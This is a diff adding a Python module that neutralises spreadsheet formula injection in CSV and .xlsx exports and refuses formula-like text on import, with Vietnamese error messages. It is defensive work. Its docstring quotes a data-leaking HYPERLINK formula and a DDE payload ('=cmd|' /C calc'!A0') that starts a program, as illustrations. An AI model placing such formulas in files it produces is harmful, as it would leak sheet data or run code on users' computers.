@@ -1,0 +1,90 @@
+"""Text that a spreadsheet program would run as a formula (CSV / formula injection).
+
+A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel
+and LibreOffice as a formula when the file is opened or the cell is edited, so a commitment
+text such as `=HYPERLINK("http://…?d="&A2,"Bấm vào đây")` would leak the sheet or, through
+DDE (`=cmd|' /C calc'!A0`), start a program on the desk's computer. OWASP's rule, applied to
+every CSV and .xlsx the system writes: such text is written with a single quote in front (the
+spreadsheet then shows it as text), and an .xlsx cell holding text is always of string type,
+never a formula. Numbers stay numbers: a number value is written as is, and so is text that
+is a plain number ("-5", "+84"), which no spreadsheet runs.
+
+Imports refuse such text instead of storing it (see `formula_refusal`): a name, address or
+note starting with "=" was a formula in the desk's sheet, not data, and a refusal names the
+row and column so the desk can fix it, where a silently altered value would not.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable, Sequence
+from typing import Any, TypeVar
+
+from openpyxl.cell.cell import Cell as XlsxCell
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)*|[.,]\d+)([eE][+-]?\d+)?")
+_TRIGGER_NAMES = {"\t": "dấu tab", "\r": "ký tự xuống dòng (CR)"}
+
+FORMULA_TEXT_CODE = "FORMULA_TEXT"
+FORMULA_TEXT_MESSAGE = (
+    "Nội dung «{value}» bắt đầu bằng {first} nên bảng tính sẽ hiểu là công thức; không nhận "
+    "công thức trong dữ liệu nhập — hãy bỏ ký tự {first} ở đầu hoặc viết lại nội dung"
+)
+
+V = TypeVar("V")
+
+
+def formula_like(text: str) -> bool:
+    """Would a spreadsheet program treat this text as a formula? A lone "-" (the desks' "no
+    figure") cannot be one, nor can a plain number."""
+    return (
+        len(text) > 1
+        and text.startswith(FORMULA_TRIGGERS)
+        and not _PLAIN_NUMBER.fullmatch(text)
+    )
+
+
+def neutralised(value: V) -> V | str:
+    """The value as it may be written into a cell: formula-like text gets a leading quote."""
+    if isinstance(value, str) and formula_like(value):
+        return "'" + value
+    return value
+
+
+def formula_refusal(text: str) -> str | None:
+    """For imports: the Vietnamese reason to refuse `text`, or None when it is plain data."""
+    if not formula_like(text):
+        return None
+    first = _TRIGGER_NAMES.get(text[0], f"«{text[0]}»")
+    shown = text if len(text) <= 60 else text[:57] + "…"
+    return FORMULA_TEXT_MESSAGE.format(value=shown, first=first)
+
+
+def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
+    """A CSV as Excel opens it (UTF-8 with BOM, so Vietnamese diacritics stay intact), every
+    text cell neutralised. None is an empty cell."""
+    buffer = io.StringIO(newline="")
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow([neutralised(title) for title in header])
+    for row in rows:
+        writer.writerow(["" if v is None else neutralised(v) for v in row])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def put(cell: XlsxCell, value: Any) -> XlsxCell:
+    """Write `value` into an .xlsx cell: text neutralised and typed as a string (openpyxl
+    would otherwise store any text starting with "=" as a formula)."""
+    safe = neutralised(value)
+    cell.value = safe
+    if isinstance(safe, str):
+        cell.data_type = "s"
+    return cell
+
+
+def put_row(sheet: Any, row: int, values: Sequence[Any]) -> list[XlsxCell]:
+    """Write one row of values from column A on, each through `put`."""
+    return [put(sheet.cell(row, column), value)
+            for column, value in enumerate(values, start=1)]
